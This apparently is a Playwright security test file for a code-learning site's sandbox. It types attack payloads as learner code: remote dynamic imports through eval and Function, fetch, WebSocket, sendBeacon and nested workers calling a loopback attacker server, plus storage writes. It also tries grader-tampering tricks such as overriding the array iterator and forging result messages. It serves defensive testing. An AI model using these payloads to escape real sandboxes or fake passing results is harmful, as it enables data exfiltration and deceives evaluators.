/**
 * Attacks on the code lab's sandbox, as a learner (or whoever wrote an imported progress file) would try them.
 *
 * Each attack is learner code typed into the lab of chapter 1 and run. An attacker server on loopback counts every
 * request and WebSocket handshake that reaches it; a storage probe lists what the site's origin holds (OPFS, storage
 * buckets, IndexedDB, Cache Storage, localStorage); a BroadcastChannel listener in the page counts messages. The
 * sandbox holds when, after the run, nothing reached the server, nothing was written and nothing was heard.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test, type Locator, type Page } from '@playwright/test';
import { labWithEditor, typeCode } from './code-lab-steps.ts';

const EXERCISE = '01-request-or-notification';
const CHAPTER = '/chapters/message-shapes/';
/** The name every attack writes under, so the probe can find it. */
const MARK = 'code-lab-pwned';

/** A loopback server that answers everything and remembers what reached it. */
class Attacker {
  readonly hits: string[] = [];
  private server: Server | undefined;
  origin = '';
  host = '';

  async start(): Promise<void> {
    this.server = createServer((req, res) => {
      this.hits.push(`${req.method} ${req.url}`);
      res.writeHead(200, {
        'content-type': req.url?.endsWith('.js') ? 'text/javascript' : 'text/plain',
        'access-control-allow-origin': '*',
      });
      res.end(req.url?.endsWith('.js') ? `self.${MARK} = true;` : 'ok');
    });
    this.server.on('upgrade', (req, socket) => {
      this.hits.push(`UPGRADE ${req.url}`);
      socket.destroy();
    });
    await new Promise<void>((done) => this.server!.listen(0, '127.0.0.1', done));
    const { port } = this.server.address() as AddressInfo;
    this.host = `127.0.0.1:${port}`;
    this.origin = `http://${this.host}`;
  }

  stop(): Promise<void> {
    return new Promise((done) => (this.server ? this.server.close(() => done()) : done()));
  }

  /** The hits whose path starts with `/name`. */
  hitsFor(name: string): string[] {
    return this.hits.filter((h) => h.split(' ')[1]?.startsWith(`/${name}`));
  }
}

/** What the site's origin holds under MARK, and what the page's BroadcastChannel heard. */
async function probe(page: Page): Promise<string[]> {
  return page.evaluate(async (mark) => {
    const found: string[] = [];
    const heard = (window as unknown as { __codeLabHeard?: number }).__codeLabHeard ?? 0;
    if (heard > 0) found.push(`BroadcastChannel heard ${heard} message(s)`);
    try {
      const root = await navigator.storage.getDirectory();
      for await (const name of (root as unknown as { keys(): AsyncIterable<string> }).keys())
        if (name.includes(mark)) found.push(`OPFS file ${name}`);
    } catch {
      // No OPFS in this browser: nothing can be written there either.
    }
    const buckets = (navigator as unknown as { storageBuckets?: { keys(): Promise<string[]> } }).storageBuckets;
    if (buckets) for (const name of await buckets.keys()) if (name.includes(mark)) found.push(`storage bucket ${name}`);
    for (const db of await indexedDB.databases()) if (db.name?.includes(mark)) found.push(`IndexedDB ${db.name}`);
    for (const name of await caches.keys()) if (name.includes(mark)) found.push(`cache ${name}`);
    if (localStorage.getItem(mark) !== null) found.push(`localStorage ${mark}`);
    return found;
  }, MARK);
}

/** Opens chapter 1, listens on the page's BroadcastChannel, and waits until the lab's editor has loaded. */
async function openLab(page: Page): Promise<Locator> {
  await page.goto(CHAPTER);
  await page.evaluate((mark) => {
    const channel = new BroadcastChannel(mark);
    (window as unknown as { __codeLabChannel: BroadcastChannel }).__codeLabChannel = channel;
    channel.onmessage = () => {
      const w = window as unknown as { __codeLabHeard?: number };
      w.__codeLabHeard = (w.__codeLabHeard ?? 0) + 1;
    };
  }, MARK);
  return labWithEditor(page, EXERCISE, 15_000);
}

/**
 * Clicks Run and waits until the run has ended (passed or failed). `holdPage` keeps the page's main thread busy for
 * that long just after the click: the run goes on in its worker while the page cannot yet read the results and stop
 * it, so whatever the learner's code started asynchronously has time to complete.
 */
async function runAndWait(lab: Locator, holdPage = 0): Promise<string> {
  await lab.locator('[data-role="run"]').click();
  if (holdPage > 0)
    await lab.page().evaluate((ms) => {
      const until = performance.now() + ms;
      while (performance.now() < until);
    }, holdPage);
  await expect(lab).toHaveAttribute('data-state', /^(passed|failed)$/, { timeout: 15_000 });
  return (await lab.getAttribute('data-state')) ?? '';
}

/** A correct kindOf, so a run that reports a pass says nothing about the attack; the attack runs as the module loads. */
function learnerModule(attack: string): string {
  return [
    "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
    "  return Object.hasOwn(message, 'id') ? 'request' : 'notification';",
    '}',
    'try {',
    `  ${attack}`,
    '} catch (error) {',
    "  console.log('attack refused:', String(error));",
    '}',
    '',
  ].join('\n');
}

/** Every attack: a name (also the path it requests) and the code, given the attacker's origin and host. */
const ATTACKS: Array<{ name: string; code: (origin: string, host: string) => string }> = [
  {
    name: 'indirect-eval-import',
    code: (o) => `(0, eval)('import("${o}/indirect-eval-import.js")').catch(() => {});`,
  },
  {
    name: 'function-import',
    code: (o) =>
      `(Function('u', 'return import(u)') as (u: string) => Promise<unknown>)('${o}/function-import.js').catch(() => {});`,
  },
  { name: 'fetch', code: (o) => `fetch('${o}/fetch').catch(() => {});` },
  {
    name: 'xhr',
    code: (o) => `const x = new XMLHttpRequest(); x.open('GET', '${o}/xhr', false); x.send();`,
  },
  { name: 'websocket', code: (_o, h) => `new WebSocket('ws://${h}/websocket');` },
  {
    name: 'websocketstream',
    code: (_o, h) =>
      `const S = (globalThis as any).WebSocketStream; new S('ws://${h}/websocketstream').opened.catch(() => {});`,
  },
  { name: 'eventsource', code: (o) => `new EventSource('${o}/eventsource');` },
  {
    name: 'fontface',
    code: (o) => `new FontFace('x', 'url(${o}/fontface.woff2)').load().catch(() => {});`,
  },
  { name: 'importscripts', code: (o) => `(globalThis as any).importScripts('${o}/importscripts.js');` },
  { name: 'sendbeacon', code: (o) => `(navigator as any).sendBeacon('${o}/sendbeacon', 'x');` },
  {
    name: 'nested-worker',
    code: (o) =>
      `new Worker(URL.createObjectURL(new Blob(["fetch('${o}/nested-worker').catch(() => {})"], { type: 'text/javascript' })));`,
  },
  {
    name: 'opfs',
    code: () =>
      `(navigator as any).storage.getDirectory().then((d: any) => d.getFileHandle('${MARK}-opfs', { create: true })).catch(() => {});`,
  },
  {
    name: 'storage-buckets',
    code: () => `(navigator as any).storageBuckets.open('${MARK}-bucket').catch(() => {});`,
  },
  { name: 'indexeddb', code: () => `indexedDB.open('${MARK}-idb');` },
  { name: 'caches', code: () => `caches.open('${MARK}-cache').catch(() => {});` },
  {
    name: 'localstorage',
    code: () => `(globalThis as any).localStorage.setItem('${MARK}', '${MARK}-written');`,
  },
  {
    name: 'broadcastchannel',
    code: () => `new BroadcastChannel('${MARK}').postMessage('${MARK}');`,
  },
];

const attacker = new Attacker();
test.beforeAll(async () => attacker.start());
test.afterAll(async () => attacker.stop());

test.describe('learner code reaches no network, no storage and no other context', () => {
  for (const attack of ATTACKS) {
    test(`attack: ${attack.name}`, async ({ page }) => {
      const lab = await openLab(page);
      await typeCode(page, lab, learnerModule(attack.code(attacker.origin, attacker.host)));
      await runAndWait(lab, 1_000);
      // The learner's exports are right, so eight passing tests show the attack's module ran (a sandbox that runs
      // nothing would hold trivially). The lab's type check may still object to the attack's code; that is beside
      // the point here.
      await expect(lab.locator('.cl-pass')).toHaveCount(8);
      // Give anything the attack started time to arrive.
      await page.waitForTimeout(700);
      expect(attacker.hitsFor(attack.name), `requests from ${attack.name}`).toEqual([]);
      expect(await probe(page), `what ${attack.name} left behind`).toEqual([]);
    });
  }
});

test.describe('the verdict, the output cap and the time limit do not depend on anything learner code can replace', () => {
  test('replacing the array iterator does not turn a wrong answer into a pass', async ({ page }) => {
    const lab = await openLab(page);
    await typeCode(
      page,
      lab,
      [
        "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
        "  return 'request';",
        '}',
        // Every array that looks like the list of test cases iterates as the same cases with an empty check.
        'const iterate = Array.prototype[Symbol.iterator];',
        '(Array.prototype as any)[Symbol.iterator] = function* (this: any[]) {',
        "  if (this.length > 0 && typeof this[0]?.run === 'function')",
        '    for (let i = 0; i < this.length; i++) yield { name: this[i].name, run() {} };',
        '  else yield* iterate.call(this);',
        '};',
        '',
      ].join('\n'),
    );
    expect(await runAndWait(lab)).toBe('failed');
    await expect(lab.locator('[data-role="status"]')).not.toContainText('pass. Exercise solved');
  });

  test('making the model see a different message does not turn a wrong answer into a pass', async ({ page }) => {
    const lab = await openLab(page);
    await typeCode(
      page,
      lab,
      [
        "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
        "  return 'notification';",
        '}',
        'const stringify = JSON.stringify;',
        "(JSON as any).stringify = (_value: unknown, ...rest: any[]) => stringify({ jsonrpc: '2.0', method: 'x' }, ...rest);",
        '',
      ].join('\n'),
    );
    expect(await runAndWait(lab)).toBe('failed');
    await expect(lab.locator('.cl-fail').first()).toBeVisible();
  });

  test('messages forged to look like results do not count', async ({ page }) => {
    const lab = await openLab(page);
    await typeCode(
      page,
      lab,
      [
        "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
        "  return 'request';",
        '}',
        'const post = (globalThis as any).postMessage ?? (() => {});',
        'for (let runId = 0; runId < 200; runId++) {',
        '  for (let index = 0; index < 8; index++)',
        "    try { post({ type: 'result', runId, index, total: 8, name: 'forged', passed: true }); } catch {}",
        "  try { post({ type: 'done', runId, passed: 8, total: 8 }); } catch {}",
        '}',
        '',
      ].join('\n'),
    );
    expect(await runAndWait(lab)).toBe('failed');
    await expect(lab.locator('.cl-pass', { hasText: 'forged' })).toHaveCount(0);
  });

  test('replacing String.prototype.slice does not send 64 MB of output to the page', async ({ page }) => {
    const lab = await openLab(page);
    await typeCode(
      page,
      lab,
      [
        "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
        "  return Object.hasOwn(message, 'id') ? 'request' : 'notification';",
        '}',
        'String.prototype.slice = function (this: string) { return String(this); };',
        "console.log('x'.repeat(64 * 1024 * 1024));",
        '',
      ].join('\n'),
    );
    await runAndWait(lab);
    const shown = await lab.locator('[data-role="output"]').evaluate((el) => el.textContent?.length ?? 0);
    // The page shows at most 20,000 characters of output per run, plus the note that says it was cut.
    expect(shown).toBeLessThan(21_000);
    expect(await page.evaluate(() => 6 * 7)).toBe(42);
  });

  test('replacing the timers and the clock does not stop the time limit', async ({ page }) => {
    const lab = await openLab(page);
    await typeCode(
      page,
      lab,
      [
        "export function kindOf(message: { id?: unknown }): 'request' | 'notification' {",
        '  for (;;) {}',
        '}',
        'const g = globalThis as any;',
        'g.setTimeout = g.clearTimeout = g.setInterval = () => 0;',
        'Date.now = () => 0;',
        'g.performance.now = () => 0;',
        '',
      ].join('\n'),
    );
    await lab.locator('[data-role="run"]').click();
    await expect(lab.locator('[data-role="status"]')).toContainText('Stopped after 3 seconds', { timeout: 5_000 });
    expect(await page.evaluate(() => 6 * 7)).toBe(42);
  });
});

test.describe('code from an imported progress file', () => {
  test('shows as imported, never runs by itself, and runs only in the sandbox when the learner presses Run', async ({
    page,
  }) => {
    const planted = learnerModule(
      `(0, eval)('import("${attacker.origin}/imported-code.js")').catch(() => {}); fetch('${attacker.origin}/imported-code-fetch').catch(() => {});`,
    );
    const file = {
      format: 'mcp-message-lab/progress',
      version: 2,
      updatedAt: '2026-01-01T00:00:00.000Z',
      chapters: {
        'message-shapes': {
          checks: {},
          codeLabs: {},
          widgets: {
            [`code-lab-${EXERCISE}`]: {
              kind: 'code-lab',
              state: { code: planted, ran: true },
              done: false,
              at: '2026-01-01T00:00:00.000Z',
            },
          },
        },
      },
    };
    await page.goto('/progress/');
    await page.locator('#progress-import').setInputFiles({
      name: 'progress.json',
      mimeType: 'application/json',
      buffer: Buffer.from(JSON.stringify(file)),
    });
    await expect(page.locator('lab-progress-page')).toContainText('Imported progress');

    await page.goto(CHAPTER);
    const lab = page.locator(`lab-code-lab[data-exercise="${EXERCISE}"]`);
    // Run pressed while the lab still shows the starter: the imported code is put on screen, not run.
    await lab.locator('[data-role="run"]').evaluate((button) => (button as HTMLButtonElement).click());
    await lab.locator('.cm-content').waitFor({ timeout: 15_000 });
    const status = lab.locator('[data-role="status"]');
    await expect(status).toContainText(/imported/i);
    await expect(status).not.toContainText('Your saved code is back');
    await expect(lab.locator('.cm-content')).toContainText('imported-code.js');
    await page.waitForTimeout(1_000);
    await expect(lab).not.toHaveAttribute('data-state', /^(passed|failed)$/);
    expect(attacker.hitsFor('imported-code')).toEqual([]);

    // The learner has seen it and presses Run: it runs, in the sandbox.
    await runAndWait(lab, 1_000);
    await page.waitForTimeout(700);
    expect(attacker.hitsFor('imported-code')).toEqual([]);
  });
});
